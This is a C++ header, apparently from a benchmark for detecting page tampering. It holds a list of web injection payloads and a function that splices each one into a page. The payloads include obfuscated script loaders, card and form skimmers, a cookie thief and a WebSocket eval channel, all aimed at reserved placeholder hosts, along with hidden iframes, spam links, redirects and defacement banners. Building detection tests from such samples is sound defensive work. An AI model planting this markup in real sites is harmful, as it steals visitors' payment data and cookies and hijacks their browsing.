// Injections: what attackers put into a page that otherwise stays itself, each written into a real fetch at a
// stated place. Hosts are of the reserved names .example and .test, so that nothing here points at anybody.
#pragma once

#include <array>
#include <string>
#include <string_view>

namespace vedette::bench {

enum class Place {
  kHeadStart,
  kHeadEnd,
  kBodyStart,
  kMiddle,
  kBodyEnd,
  kAfterHtml,
  kInScript,
  kFirstLink,
  kFirstForm,
  kFirstImage
};

struct Injection {
  std::string_view name;
  std::string_view group;
  Place place;
  std::string_view markup;
};

inline constexpr std::array kInjections = {
    // External scripts.
    Injection{"script in head", "script", Place::kHeadEnd,
              R"x(<script src="https://cdn-analytics.example/ga.js"></script>)x"},
    Injection{"script first in head", "script", Place::kHeadStart,
              R"x(<script async src="//stat-counter.example/c/v2/s.js"></script>)x"},
    Injection{"script at body end", "script", Place::kBodyEnd,
              R"x(<script src="https://jquery-lib.test/jquery-3.6.4.min.js"></script>)x"},
    Injection{"script after the document", "script", Place::kAfterHtml,
              R"x(<script src=https://traffic-js.test/track.js></script>)x"},
    Injection{"script in the middle", "script", Place::kMiddle,
              R"x(<script type="text/javascript" src="http://203.0.113.77/x.js"></script>)x"},
    Injection{"script from a paste", "script", Place::kMiddle,
              R"x(<script src="https://tools.example/raw/~/XSA47HM"></script>)x"},
    Injection{"module script", "script", Place::kHeadEnd,
              R"x(<script type="module" src="https://esm-mirror.example/checkout.mjs"></script>)x"},
    Injection{"script tag in odd case", "script", Place::kBodyEnd,
              R"x(<ScRiPt/SrC='https://odd-case.test/l.js'></sCrIpT>)x"},
    Injection{"script of a lookalike host", "script", Place::kHeadEnd,
              R"x(<script src="https://www.googletagmanager.com.gtm-id.example/gtm.js"></script>)x"},
    Injection{
        "script as a data: URL", "script", Place::kHeadEnd,
        R"x(<script src="data:text/javascript;base64,dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9J2h0dHBzOi8vYS50ZXN0L2EuanMnO2RvY3VtZW50LmhlYWQuYXBwZW5kQ2hpbGQocyk="></script>)x"},
    // Skimmers and loaders in the page.
    Injection{
        "card skimmer", "inline", Place::kBodyEnd,
        R"x(<script>document.addEventListener('input',function(e){if(/card|cvv/.test(e.target.name)){navigator.sendBeacon('https://collect-pay.example/g',e.target.value)}});</script>)x"},
    Injection{
        "form skimmer with an image", "inline", Place::kBodyEnd,
        R"x(<script>document.forms[0]&&document.forms[0].addEventListener('submit',function(){var d=new FormData(this);(new Image).src='https://px.example/p.gif?'+btoa(new URLSearchParams(d))});</script>)x"},
    Injection{
        "loader with createElement", "inline", Place::kHeadEnd,
        R"x(<script>(function(){var s=document.createElement('script');s.src='https://load.example/a.js';document.head.appendChild(s)})();</script>)x"},
    Injection{
        "loader with atob", "inline", Place::kHeadEnd,
        R"x(<script>var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9ldmlsLWxvYWRlci5leGFtcGxlL2EuanM=');document.head.appendChild(s);</script>)x"},
    Injection{
        "loader with fromCharCode", "inline", Place::kBodyEnd,
        R"x(<script>eval(String.fromCharCode(100,111,99,117,109,101,110,116,46,119,114,105,116,101,40,39,60,115,99,114,105,112,116,32,115,114,99,61,104,116,116,112,115,58,47,47,122,46,116,101,115,116,47,122,46,106,115,62,60,92,47,115,99,114,105,112,116,62,39,41))</script>)x"},
    Injection{
        "loader with hex escapes", "inline", Place::kHeadEnd,
        R"x(<script>var _0x1=["\x68\x74\x74\x70\x73\x3a\x2f\x2f\x68\x78\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2f\x61\x2e\x6a\x73","\x73\x63\x72\x69\x70\x74"];var e=document.createElement(_0x1[1]);e["src"]=_0x1[0];document.body.appendChild(e);</script>)x"},
    Injection{
        "loader with unescape", "inline", Place::kBodyEnd,
        R"x(<script>document.write(unescape('%3Cscript%20src%3D%22https%3A//un.example/u.js%22%3E%3C/script%3E'))</script>)x"},
    Injection{
        "loader in pieces", "inline", Place::kMiddle,
        R"x(<script>var u='ht'+'tps:'+'//pie'+'ces.exam'+'ple/p.js',t=document.createElement('scr'+'ipt');t.src=u;document.body.appendChild(t)</script>)x"},
    Injection{
        "redirect for searchers", "inline", Place::kHeadEnd,
        R"x(<script>if(/google|bing/.test(document.referrer)){location.href='https://win-prize.example/?s=1'}</script>)x"},
    Injection{"cookie thief", "inline", Place::kBodyEnd,
              R"x(<script>fetch('https://grab.test/c?'+encodeURIComponent(document.cookie))</script>)x"},
    Injection{
        "page written over by atob", "inline", Place::kHeadEnd,
        R"x(<script>document.documentElement.innerHTML=atob('PGgxPkhBQ0tFRCBCWSBURVNUIFRFQU08L2gxPg==');</script>)x"},
    Injection{
        "WebSocket channel", "inline", Place::kBodyEnd,
        R"x(<script>var w=new WebSocket('wss://ws.collector.example/s');w.onmessage=function(m){eval(m.data)}</script>)x"},
    Injection{
        "loader added to an existing script", "inline", Place::kInScript,
        R"x(;(function(){var j=document.createElement('script');j.src='https://append.example/j.js';document.head.appendChild(j)})();)x"},
    Injection{
        "skimmer added to an existing script", "inline", Place::kInScript,
        R"x(;document.addEventListener("change",function(e){fetch("https://exfil.example/i",{method:"POST",body:e.target.value})});)x"},
    // Frames.
    Injection{"visible frame", "frame", Place::kMiddle,
              R"x(<iframe src="https://partner-offer.example/w" width="300" height="250"></iframe>)x"},
    Injection{"one-pixel frame", "frame", Place::kBodyEnd,
              R"x(<iframe src="https://drive.test/in.php" width="1" height="1" frameborder="0"></iframe>)x"},
    Injection{"frame without display", "frame", Place::kBodyEnd,
              R"x(<iframe style="display:none" src="http://198.51.100.4/e/"></iframe>)x"},
    Injection{
        "frame off the screen", "frame", Place::kBodyStart,
        R"x(<div style="position:absolute;left:-9999px"><iframe src="https://kit.example/landing"></iframe></div>)x"},
    Injection{
        "frame over the page", "frame", Place::kBodyStart,
        R"x(<iframe src="https://deface.example/haking.html" style="position:fixed;top:0;left:0;width:100vw;height:100vh;border:0;z-index:99999"></iframe>)x"},
    Injection{"frame with srcdoc", "frame", Place::kBodyEnd,
              R"x(<iframe srcdoc="<script src=https://doc.example/d.js></script>"></iframe>)x"},
    Injection{
        "embedded object", "frame", Place::kMiddle,
        R"x(<object data="https://obj.example/p.html" type="text/html" width="1" height="1"></object>)x"},
    // Hidden links.
    Injection{
        "hidden gambling links", "link", Place::kBodyEnd,
        R"x(<div style="display:none"><a href="https://slot-gacor88.example/">slot gacor</a> <a href="https://judi-online.test/">judi online</a> <a href="https://nohu90.example/">nổ hũ</a></div>)x"},
    Injection{
        "gambling links off the screen", "link", Place::kBodyStart,
        R"x(<div style="position:absolute;top:-9999px;left:-9999px"><a href="https://nha-cai-uy-tin.example">nhà cái uy tín</a><a href="https://taixiu.test">tài xỉu online</a></div>)x"},
    Injection{
        "gambling link in a tiny font", "link", Place::kMiddle,
        R"x(<p style="font-size:0px"><a href="https://ca-cuoc-bong-da.example/">cá cược bóng đá</a></p>)x"},
    Injection{
        "gambling link in a still marquee", "link", Place::kBodyEnd,
        R"x(<marquee style="width:0px;height:0px"><a href="https://casino-truc-tuyen.test/">casino trực tuyến</a></marquee>)x"},
    Injection{
        "pharmacy link, transparent", "link", Place::kBodyEnd,
        R"x(<span style="opacity:0"><a href="https://cheap-viagra-online.example/">buy viagra online</a></span>)x"},
    Injection{
        "hidden links without words", "link", Place::kBodyEnd,
        R"x(<div style="overflow:hidden;height:0px"><a href="https://abcx.example/">here</a><a href="https://defx.test/">more</a><a href="https://ghix.example/">info</a></div>)x"},
    Injection{"one hidden link without words", "link", Place::kMiddle,
              R"x(<a style="visibility:hidden" href="https://single.example/">x</a>)x"},
    Injection{"visible gambling link", "link", Place::kBodyEnd,
              R"x(<p><a href="https://slot-online-gacor.example/">Slot Gacor Online</a></p>)x"},
    // Redirections and hijacks.
    Injection{"refresh at once", "redirect", Place::kHeadEnd,
              R"x(<meta http-equiv="refresh" content="0;url=https://landing.example/">)x"},
    Injection{"refresh after three seconds", "redirect", Place::kHeadStart,
              R"x(<META HTTP-EQUIV='Refresh' CONTENT='3; URL=http://203.0.113.9/go'>)x"},
    Injection{"base element", "redirect", Place::kHeadStart, R"x(<base href="https://mirror.test/">)x"},
    Injection{
        "form to elsewhere", "redirect", Place::kMiddle,
        R"x(<form action="https://login-check.example/p.php" method="post"><input name="user"><input type="password" name="pass"><button>OK</button></form>)x"},
    Injection{"form action rewritten", "redirect", Place::kFirstForm,
              R"x( action="https://gate.example/post" )x"},
    // Handlers and addresses.
    Injection{
        "svg onload", "handler", Place::kMiddle,
        R"x(<svg onload="var s=document.createElement('script');s.src='https://svg.example/s.js';document.head.appendChild(s)"></svg>)x"},
    Injection{"img onerror", "handler", Place::kBodyEnd,
              R"x(<img src=x onerror="eval(atob('ZmV0Y2goJ2h0dHBzOi8vaW1nLnRlc3QvaScp'))">)x"},
    Injection{
        "details ontoggle", "handler", Place::kMiddle,
        R"x(<details open ontoggle="fetch('https://tog.example/?'+document.cookie)"><summary></summary></details>)x"},
    Injection{"javascript: in a link", "handler", Place::kMiddle,
              R"x(<a href="javascript:eval(atob('YWxlcnQoMSk='))">Tải về</a>)x"},
    Injection{"first link gets onclick", "handler", Place::kFirstLink,
              R"x( onclick="location.href='https://click.example/?r';return false" )x"},
    Injection{"first image gets onload", "handler", Place::kFirstImage,
              R"x( onload="document.write('<script src=https://il.example/w.js></scr'+'ipt>')" )x"},
    // Style and preload.
    Injection{"style sheet", "style", Place::kHeadEnd,
              R"x(<link rel="stylesheet" href="https://css-cover.example/c.css">)x"},
    Injection{"preloaded script", "style", Place::kHeadEnd,
              R"x(<link rel="preload" as="script" href="https://pre.example/p.js">)x"},
    Injection{"module preload", "style", Place::kHeadEnd,
              R"x(<link rel=modulepreload href=https://modp.test/m.js>)x"},
    // Words in a page that otherwise stays.
    Injection{"a defacer's line", "words", Place::kBodyStart,
              R"x(<h1 style="color:red">Hacked by Test Cyber Team</h1>)x"},
    Injection{"a defacer's line, disguised", "words", Place::kBodyStart,
              R"x(<center><font color=lime>H4ck3d By T3st Cr3w</font></center>)x"},
};

// The page with the injection; the same page again if it has no such place.
inline std::string inject(std::string_view page, const Injection& injection) {
  std::string lower(page);
  for (char& c : lower) c = c >= 'A' && c <= 'Z' ? static_cast<char>(c + 32) : c;
  auto after_tag = [&](std::string_view open) -> std::size_t {
    for (std::size_t at = lower.find(open); at != std::string::npos; at = lower.find(open, at + 1)) {
      const char next = at + open.size() < lower.size() ? lower[at + open.size()] : '\0';
      if (next != '>' && next != ' ' && next != '\n') continue;
      const std::size_t end = lower.find('>', at);
      return end == std::string::npos ? std::string::npos : end + 1;
    }
    return std::string::npos;
  };
  auto inside_tag = [&](std::string_view open) -> std::size_t {
    const std::size_t at = lower.find(open);
    return at == std::string::npos ? std::string::npos : at + open.size() - 1;
  };
  std::size_t at = std::string::npos;
  const std::size_t body = after_tag("<body");
  switch (injection.place) {
    case Place::kHeadStart:
      at = after_tag("<head");
      break;
    case Place::kHeadEnd:
      at = lower.find("</head>");
      break;
    case Place::kBodyStart:
      at = body;
      break;
    case Place::kBodyEnd:
      at = lower.rfind("</body>");
      break;
    case Place::kAfterHtml:
      at = page.size();
      break;
    case Place::kMiddle: {
      const std::size_t from = body == std::string::npos ? page.size() / 2 : body + (page.size() - body) / 2;
      for (std::string_view close : {"</p>", "</li>", "</div>"}) {
        at = lower.find(close, from);
        if (at == std::string::npos) at = lower.rfind(close, from);
        if (at != std::string::npos) {
          at += close.size();
          break;
        }
      }
      break;
    }
    case Place::kInScript: {
      for (std::size_t open = lower.find("<script"); open != std::string::npos;
           open = lower.find("<script", open + 1)) {
        const std::size_t start = lower.find('>', open), end = lower.find("</script", open);
        if (start == std::string::npos || end == std::string::npos) break;
        const std::string_view tag = std::string_view(lower).substr(open, start - open);
        if (end > start + 40 && tag.find("json") == std::string_view::npos &&
            tag.find("src=") == std::string_view::npos)
          at = end;
      }
      break;
    }
    case Place::kFirstLink:
      at = inside_tag("<a ");
      break;
    case Place::kFirstForm:
      at = inside_tag("<form ");
      break;
    case Place::kFirstImage:
      at = inside_tag("<img ");
      break;
  }
  if (at == std::string::npos) return std::string(page);
  std::string out(page.substr(0, at));
  out += injection.markup;
  out += page.substr(at);
  return out;
}

}  // namespace vedette::bench
